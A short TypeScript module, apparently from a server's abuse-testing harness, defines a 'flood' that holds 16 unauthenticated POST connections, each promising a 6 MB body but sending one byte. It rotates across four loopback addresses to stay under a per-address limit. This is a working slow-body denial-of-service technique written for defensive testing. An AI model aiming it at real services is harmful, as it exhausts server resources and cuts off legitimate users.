import { once } from 'node:events'
import { type Flood, forEver, open } from './attacker.ts'

/** Promises 6 MB on each of 16 connections without an account, and sends one byte. From four addresses, as one may hold 24 MB. */
export const unsentBodies: Flood = async (attacker, begin) => {
  begin()
  const hold = async (localAddress: string) => {
    const headers = { 'content-type': 'application/json', 'content-length': 6 * 1024 * 1024 }
    const held = open(attacker, { method: 'POST', path: '/rest/v1/comments', headers, localAddress })
    held.write('{')
    held.on('response', answer => answer.resume())
    await once(held, 'close')
  }
  await Promise.all([2, 3, 4, 5].map(n => forEver(4, () => hold(`127.0.0.${n}`))))
}
